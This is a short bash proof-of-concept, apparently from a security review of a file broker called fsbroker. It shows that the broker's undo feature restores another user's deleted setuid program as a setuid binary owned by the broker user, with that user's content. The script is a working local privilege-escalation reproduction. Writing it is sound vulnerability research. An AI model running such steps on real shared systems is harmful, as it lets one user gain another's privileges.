#!/bin/bash
# Copies keep modes but not owners: another user's setuid program in a shared root on another
# filesystem than the store, overwritten (or deleted) by a server, is kept -- and restored by
# `undo` -- as the *broker user's* setuid program, with the other user's content.
BIN=${FSBROKER:-/work/review_rec/target/debug/fsbroker}
AS="setpriv --reuid=65534 --regid=65534 --clear-groups"
T=$(mktemp -d); mkdir -p $T/state
S=$(mktemp -d -p /dev/shm); chmod 1777 $S          # a shared directory, another filesystem
export XDG_STATE_HOME=$T/state
# bob (uid 65534): a setuid program of his own that prints who runs it.
printf '#!/bin/sh\nid -u\n' > /dev/null
$AS cp /usr/bin/id $S/tool; $AS chmod 4755 $S/tool
ls -ln $S/tool
# alice's server overwrites it; alice undoes the server's session.
printf '%s\n' '{"jsonrpc":"2.0","id":1,"method":"files/consent","params":{"requestedPaths":["w"],"access":"write"}}' \
  '{"jsonrpc":"2.0","id":2,"method":"files/delete","params":{"path":"w/tool"}}' |
  $BIN serve --root w=$S --writable --consent auto --server-id evil 2>/dev/null | tail -1
echo "kept in the store:"; ls -ln $T/state/fsbroker/recovery/objects/
$BIN undo --server evil
ls -ln $S/tool
echo "bob runs it:"; $AS $S/tool
rm -rf $S
